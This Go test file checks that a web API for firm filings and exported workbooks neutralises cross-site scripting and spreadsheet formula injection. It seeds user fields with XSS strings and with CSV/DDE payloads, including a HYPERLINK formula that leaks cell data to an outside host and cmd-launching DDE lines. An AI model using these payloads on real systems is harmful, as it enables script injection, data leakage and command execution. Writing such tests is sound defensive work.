package api

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/getkin/kin-openapi/openapi3"

	"yunti/exports"
	"yunti/models"
	"yunti/models/modelstest"
)

// poison puts a text wherever people can put one: names of firms, incubators, people, rounds, files and papers, opinions,
// notes, notices, browsers, and the name that somebody signs in with. The firm is the n-th.
func (g *target) poison(n int, text string) {
	t := g.t
	t.Helper()
	city := g.as("city")
	name, firm := text+"公司", code(1+n)
	city.takeIn("incubators", "", workbook(t, []any{"载体名称", "载体类型", "级别", "所属县(市)区", "认定日期"}, []any{name, "众创空间", "市级", "五华区", "2021-05-10"}))
	filed := city.upload("firms", "", text+".xlsx", workbook(t,
		[]any{"统一社会信用代码", "企业名称", "曾用名", "成立日期", "所属县(市)区", "国民经济行业代码", "技术领域", "联系人", "联系电话"},
		[]any{firm, name, text, "2015-03-02", "五华区", "6513", "电子信息", text, text},
		[]any{"91530100MA6K00001A", name, text, text, text, text, text, text, text})).want(201).text("id")
	city.act(filed, "apply", nil).want(200)
	g.ids["filings"] = filed
	id := city.upload("figures", "2023", text+".csv", []byte("\uFEFF统一社会信用代码,企业名称,营业收入(万元)\n"+firm+",\""+strings.ReplaceAll(text, `"`, `""`)+"\",1\n")).want(201).text("id")
	city.attach(id, "", text+".pdf", pdfPaper(text)).want(201)
	city.act(id, "submit", nil).want(200)
	city.act(id, "return", map[string]any{"opinion": text, "lines": []any{map[string]any{"line": 2, "opinion": text}}}).want(200)
	round := city.openRound(map[string]any{"name": "r" + text, "year": 2022, "note": text})
	city.patch(round, map[string]any{"note": text + "!"}).want(200)
	city.post(round+"/remind", nil).want(200)
	signIn(t, g.srv.DB, g.srv.Now(), models.User{Username: "poisoned", Name: text, Role: models.RoleCity}, "secret-of-poisoned")
	g.as("admin").patch("/api/v1/users/poisoned", map[string]any{"name": text + "!"}).want(200)
	city.newToken(text, "read")
	g.anonymous().post("/api/v1/session", map[string]any{"username": text, "password": "x"}, header("User-Agent", text)).unharmed(text, text)
	g.srv.DB.Write.Exec("DELETE FROM attempts")
}

// markup runs a script wherever it is put into a page as it stands.
var markup = []string{`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `'-alert(1)-'`, `</title><svg onload=alert(1)>`, `javascript:alert(1)`, "<scr\u0130pt>\u2028alert(1)"}

// What people wrote is shown as JSON or in a workbook and never as a page; and even in JSON it has no tags.
func TestMarkupIsNeverAPage(t *testing.T) {
	g := newTarget(t, modelstest.SQLite(t))
	for i, text := range markup[:4] {
		g.poison(i, text)
	}
	g.publish(2023)
	shown := 0
	for _, a := range aims(g.doc) {
		if a.method != http.MethodGet {
			continue
		}
		roles := a.roles
		if len(roles) == 0 {
			roles = []string{""}
		}
		for _, role := range roles {
			address := g.address(a, nil) + "?" + a.needed().Encode()
			if slices.ContainsFunc(a.params("query"), func(p *openapi3.Parameter) bool { return p.Name == "size" }) {
				address += "&size=200"
			}
			got := g.who(role).get(address)
			if got.Status != http.StatusOK {
				continue
			}
			got.holdsNoMarkup(role + " " + address)
			if bytes.Contains(got.Body, []byte(`alert(1)`)) {
				shown++
			}
		}
	}
	if shown < 15 {
		t.Errorf("the markup is in %d answers only: the test shows nothing", shown)
	}
	// What is wrong with a request is told in JSON as well.
	for _, text := range markup {
		e := url.PathEscape(text)
		for _, address := range []string{"/" + e, "/docs/" + e, "/api/v1/" + e, "/api/v1/firms/" + e, "/api/v1/filings/" + e, "/api/v1/reports/" + e + ".xlsx?year=2023", "/api/v1/templates/" + e + ".xlsx", "/api/v1/users/" + e,
			"/api/v1/firms?" + e + "=1", "/api/v1/firms?sort=" + e, "/api/v1/firms?county=" + e, "/?signin=" + e, "/?" + e, "/docs/?url=" + e, "/api/v1/session/oidc?back=" + e,
			"/api/v1/session/oidc/callback?error=" + e + "&state=" + e} {
			for _, user := range []string{"", "city", "admin"} {
				s := g.anonymous()
				s.user = user
				a := s.get(address)
				a.holdsNoMarkup(address)
				for _, line := range append(a.Header.Values("Location"), a.Header.Values("Set-Cookie")...) {
					if strings.ContainsAny(line, "<>\r\n") || strings.HasPrefix(line, "javascript") {
						t.Errorf("%s: header %q", address, line)
					}
				}
			}
		}
		g.as("city").post("/api/v1/filings", map[string]any{"kind": text, text: text}).holdsNoMarkup("a body")
		g.as("city").upload("firms", "", text, []byte("企业名称,"+text+"\n甲,乙\n")).holdsNoMarkup("an upload")
		g.as("city").upload(text, "", "a.csv", []byte("a")).holdsNoMarkup("an upload")
	}
	// The page of the console is the same for everybody, but for the nonce of its policy.
	s := g.anonymous()
	s.user = "poisoned"
	page := s.get("/?signin=" + url.QueryEscape("<svg onload=alert(1)>")).want(200)
	if text := string(page.Body); strings.Contains(text, "alert(1)") || strings.Contains(page.Header.Get("Content-Security-Policy"), "unsafe") {
		t.Errorf("start page, policy %q: %s", page.Header.Get("Content-Security-Policy"), text)
	}
}

// holdsNoMarkup fails the test when a browser could take the answer for a page, or find a tag in it.
func (a *answer) holdsNoMarkup(what string) {
	a.t.Helper()
	kind := a.Header.Get("Content-Type")
	switch {
	case a.Header.Get("X-Content-Type-Options") != "nosniff":
		a.t.Errorf("%s: no nosniff", what)
	case strings.HasPrefix(kind, "application/json"), strings.HasPrefix(kind, "application/problem+json"):
		if bytes.ContainsAny(a.Body, "<>") || bytes.Contains(a.Body, []byte("\u2028")) {
			a.t.Errorf("%s: tags in %.600s", what, a.Body)
		}
	case kind == workbookType, kind == "application/pdf", kind == "application/yaml; charset=utf-8", kind == "application/yaml":
		if kind != "application/yaml" && !strings.HasPrefix(kind, "application/yaml") && !strings.HasPrefix(a.Header.Get("Content-Disposition"), "attachment;") {
			a.t.Errorf("%s: %s is no download: %q", what, kind, a.Header.Get("Content-Disposition"))
		}
	case strings.HasPrefix(kind, "text/html"), kind == "text/plain; charset=utf-8":
		for _, text := range markup {
			if bytes.Contains(a.Body, []byte(text)) {
				a.t.Errorf("%s: a page that holds %s", what, text)
			}
		}
	case kind == "" && len(a.Body) == 0:
	default:
		a.t.Errorf("%s: content type %q", what, kind)
	}
}

// formulas are run by a spreadsheet that reads them as such.
var formulas = []string{`=HYPERLINK("//e.x?"&A1,"甲")`, `=cmd|'/C calc'!A0`, `@SUM(1)*cmd|'/C calc'!A0`, `+1+cmd|'/C calc'!A0`, `-2+cmd|'/C calc'!A0`, `=DDE("cmd";"/C calc";"x")`}

// A formula that came in is a text in everything that goes out: rejects, reports, the export of the audit trail.
func TestFormulasComeOutAsText(t *testing.T) {
	g := newTarget(t, modelstest.SQLite(t))
	var filings []string
	for i, text := range formulas {
		g.poison(i, text)
		filings = append(filings, g.ids["filings"])
	}
	g.publish(2023)
	found := map[string]string{}
	for _, a := range aims(g.doc) {
		if a.method != http.MethodGet || !strings.HasSuffix(a.path, ".xlsx") {
			continue
		}
		instead := []map[string]string{nil}
		switch {
		case strings.HasPrefix(a.path, "/api/v1/reports/"):
			instead = nil
			for _, item := range g.as("city").get("/api/v1/reports").want(200).at("items").([]any) {
				report := item.(map[string]any)
				ids := map[string]string{"key": report["key"].(string)}
				if report["needs"] == string(exports.NeedsFirm) {
					for i := range formulas {
						instead = append(instead, map[string]string{"key": ids["key"], "code": code(1 + i)})
					}
					continue
				}
				instead = append(instead, ids)
			}
		case strings.HasPrefix(a.path, "/api/v1/filings/"):
			instead = nil
			for _, id := range filings {
				instead = append(instead, map[string]string{"id": id})
			}
		}
		query := a.needed()
		if query.Has("year") {
			query.Set("year", "2023")
		}
		for _, ids := range instead {
			query.Del("code")
			if firm := ids["code"]; firm != "" {
				query.Set("code", firm)
			}
			address := g.address(a, ids) + "?" + query.Encode()
			found[a.OperationID] += strings.Join(textCells(t, g.who(a.role).get(address).want(200).Body, address), "\n")
		}
	}
	for _, operation := range []string{"getRejects", "getReport", "exportAudit"} {
		for _, text := range formulas {
			if all := found[operation]; !strings.Contains(all, text) && !strings.Contains(all, strings.ReplaceAll(text, `"`, `\"`)) {
				t.Errorf("%s is in no cell of %s: the test shows nothing", text, operation)
			}
		}
	}
}

// Formulas with a tab, a line break or blanks before them, in which a reader of texts may see one.
func TestFormulasBehindBlanksComeOutAsText(t *testing.T) {
	s := newCity(t, modelstest.SQLite(t))
	for _, text := range []string{"\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "＝1+1", "\ufeff=1+1"} {
		a := s.form("firms", 0, []map[string]any{{"统一社会信用代码": "91530100MA6K00001A", "企业名称": text, "联系人": text}}).want(201)
		textCells(t, s.get("/api/v1/filings/"+a.text("id")+"/rejects.xlsx").want(200).Body, text)
	}
}

// textCells returns the texts of a workbook's cells, and fails the test when it holds a formula, a link outside, or a macro.
func textCells(t *testing.T, file []byte, what string) []string {
	t.Helper()
	archive, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	var shared, texts []string
	for _, pass := range []string{"xl/sharedStrings.xml", ""} {
		for _, part := range archive.File {
			if (pass != "") != (part.Name == pass) {
				continue
			}
			for _, bad := range []string{"externalLink", "vbaProject", "connections", "ddeLink", "/embeddings/", "activeX", "customUI"} {
				if strings.Contains(part.Name, bad) {
					t.Errorf("%s has %s", what, part.Name)
				}
			}
			if strings.HasSuffix(part.Name, ".rels") {
				if b := partText(t, part); strings.Contains(b, "External") {
					t.Errorf("%s leads outside: %s", what, b)
				}
			}
			if pass == "" && !strings.HasPrefix(part.Name, "xl/worksheets/sheet") {
				continue
			}
			d := xml.NewDecoder(strings.NewReader(partText(t, part)))
			kind, inText := "", false
			var text strings.Builder
			for {
				token, err := d.Token()
				if errors.Is(err, io.EOF) {
					break
				}
				if err != nil {
					t.Fatalf("%s %s: %v", what, part.Name, err)
				}
				switch e := token.(type) {
				case xml.StartElement:
					switch e.Name.Local {
					case "f":
						t.Errorf("%s %s holds a formula", what, part.Name)
					case "hyperlink": // within the workbook there may be some
						for _, attr := range e.Attr {
							if attr.Name.Local == "id" || strings.Contains(attr.Value, "evil") {
								t.Errorf("%s %s holds a link to %s", what, part.Name, attr.Value)
							}
						}
					case "c":
						kind = ""
						for _, attr := range e.Attr {
							if attr.Name.Local == "t" {
								kind = attr.Value
							}
						}
						if kind != "" && kind != "s" && kind != "inlineStr" && kind != "n" {
							t.Errorf("%s %s: a cell of type %s", what, part.Name, kind)
						}
						text.Reset()
					case "si":
						text.Reset()
					case "t", "v":
						inText = true
					}
				case xml.CharData:
					if inText {
						text.Write(e)
					}
				case xml.EndElement:
					switch e.Name.Local {
					case "t", "v":
						inText = false
					case "si":
						shared = append(shared, text.String())
					case "c":
						if kind == "inlineStr" {
							texts = append(texts, text.String())
						}
						if strings.ContainsAny(text.String(), "=@|") && kind != "inlineStr" && kind != "s" {
							t.Errorf("%s %s: %q is no text", what, part.Name, text.String())
						}
					}
				}
			}
		}
	}
	return append(texts, shared...)
}

func partText(t *testing.T, part *zip.File) string {
	t.Helper()
	r, err := part.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	b, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
